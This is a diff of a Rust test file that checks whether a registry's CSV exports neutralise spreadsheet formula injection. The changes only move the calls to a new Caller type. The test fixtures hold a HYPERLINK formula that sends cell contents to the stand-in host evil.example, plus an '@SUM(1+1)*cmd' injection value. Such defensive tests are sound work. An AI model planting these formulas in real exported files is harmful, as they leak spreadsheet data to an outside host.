@@ -3,6 +3,7 @@
 //! numbers stay numbers, and the registry's own readers take the `'` off again.
 
 use frmo_domain::access::Actor;
+use frmo_registry::Caller;
 use frmo_registry::register::nsi::{FIELDS, Format};
 use frmo_registry::reports::output::{self, CsvFlavour};
 use frmo_registry::reports::{Datum, ReportParams};
@@ -10,7 +11,7 @@ use frmo_registry::workers::rows_from_csv;
 use frmo_testkit::{Backend, backend_tests};
 
 use super::nsi::python;
-use super::{REAVIZ_OID, demo};
+use super::{REAVIZ, REAVIZ_OID, demo};
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Открыть\")";
 
@@ -45,8 +46,8 @@ async fn worker_exports_neutralise_formula_cells(backend: Backend) {
         begin_date: "2020-09-01".into(),
         ..Default::default()
     };
-    registry.add_worker(&chief, REAVIZ_OID, &form, "t").await.expect("add");
-    let export = registry.export_workers_csv(&chief, REAVIZ_OID, "t").await.expect("export");
+    registry.add_worker(&chief, &REAVIZ, &form).await.expect("add");
+    let export = registry.export_workers_csv(&chief, &REAVIZ).await.expect("export");
     let cells = python_cells(export.as_bytes(), ';');
     let column = |name: &str| cells[0].iter().position(|c| c == name).unwrap_or_else(|| panic!("column {name}"));
     let row = &cells[1];
@@ -61,7 +62,7 @@ async fn worker_exports_neutralise_formula_cells(backend: Backend) {
 
 async fn the_audit_journal_neutralises_formula_cells(backend: Backend) {
     let (_db, registry) = demo(backend, 0).await;
-    registry.journal(&Actor::System, "test", FORMULA, serde_json::json!({"x": 1}), "@evil").await.expect("journal");
+    registry.journal(&Caller::system("@evil"), "test", FORMULA, serde_json::json!({"x": 1})).await.expect("journal");
     let (sink, mut pages) = tokio::sync::mpsc::channel(4);
     registry.export_journal(sink).await;
     let mut csv = String::new();
@@ -77,7 +78,7 @@ async fn the_audit_journal_neutralises_formula_cells(backend: Backend) {
 async fn report_downloads_neutralise_formula_cells(backend: Backend) {
     let (_db, registry) = demo(backend, 20).await;
     let params = ReportParams { period: Some("2026".into()), group: Some("type".into()), ..ReportParams::default() };
-    let mut report = registry.run_report(&Actor::System, "organizations", &params, "t").await.expect("run");
+    let mut report = registry.run_report(&Caller::system("t"), "organizations", &params).await.expect("run");
     report.rows[0][0] = Datum::Text(FORMULA.into());
     report.rows[1][0] = Datum::Text("-5".into());
     for (flavour, delimiter) in [(CsvFlavour::Excel, ';'), (CsvFlavour::Rfc4180, ',')] {
@@ -103,7 +104,7 @@ async fn the_nsi_csv_neutralises_text_and_reads_back(backend: Backend) {
     fields[name] = "@SUM(1+1)*cmd".into();
     let file = format!("{header}\r\n{}\r\n", fields.join(";"));
     let records = frmo_registry::register::nsi::parse_file(file.as_bytes()).expect("parses");
-    registry.import_nsi(&Actor::System, records, "test", |_| {}).await.expect("import");
+    registry.import_nsi(&Caller::system("test"), records, |_| {}).await.expect("import");
     let card = registry.card(&Actor::System, REAVIZ_OID, None).await.expect("card");
     assert_eq!(card.organization.name_short, "@SUM(1+1)*cmd");
 
@@ -115,7 +116,7 @@ async fn the_nsi_csv_neutralises_text_and_reads_back(backend: Backend) {
     assert_eq!(row[region], region_id, "numbers stay numbers");
     // Read back by the registry, the name is what was stored.
     let records = frmo_registry::register::nsi::parse_file(&out).expect("parses");
-    let report = registry.import_nsi(&Actor::System, records, "test", |_| {}).await.expect("import");
+    let report = registry.import_nsi(&Caller::system("test"), records, |_| {}).await.expect("import");
     assert!(report.applied && report.updated == 0, "{report:?}");
 }
 
